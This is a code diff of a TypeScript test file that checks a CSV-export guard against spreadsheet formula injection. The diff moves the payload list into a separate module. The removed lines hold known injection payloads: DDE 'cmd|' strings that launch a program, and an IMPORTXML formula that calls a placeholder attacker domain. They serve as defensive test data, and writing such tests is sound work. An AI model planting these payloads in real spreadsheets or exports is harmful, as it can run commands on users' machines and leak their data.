@@ -1,35 +1,19 @@
 import fc from "fast-check";
 import { expect, test } from "vitest";
 import { csvCell } from "./csv-line.ts";
+import { FORMULAS } from "./formula-cells.ts";
 import { safeText, withoutGuard } from "./safe-text.ts";
 
-/** PayloadsAllTheThings, "CSV Injection"; ASVS 5.0 V1.2.10, with CR, full-width signs and what spreadsheets read over. */
-const FORMULAS = [
-  "=2+5+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "=cmd|' /C calc'!'A1'",
-  `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
-  "=         cmd|'/c calc.exe'!A",
-  '=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")',
-  "+1+1",
-  "-1+1",
-  "\t=1",
-  "\r=1",
-  "\n=1",
-  "\0=1",
-  "  =1",
-  "\u{feff}=1",
-  "\u{200b}=1",
-  "＝1",
-  "＋1",
-  "－1",
-  "＠A1",
-];
+/** With CR, and what spreadsheets read over. */
+const HIDDEN = ["\t=1", "\r=1", "\n=1", "\0=1", "  =1", "\u{feff}=1", "\u{200b}=1"];
 
-test.for(FORMULAS)("%j is text to every spreadsheet, and reads back as it was", (formula) => {
-  expect(csvCell(formula)).toMatch(/^"'/);
-  expect(withoutGuard(safeText(formula))).toBe(formula);
-});
+test.for([...FORMULAS, ...HIDDEN])(
+  "%j is text to every spreadsheet, and reads back as it was",
+  (formula) => {
+    expect(csvCell(formula)).toMatch(/^"'/);
+    expect(withoutGuard(safeText(formula))).toBe(formula);
+  },
+);
 
 test("plain text stays as it is, and comes back as it was", () => {
   fc.assert(
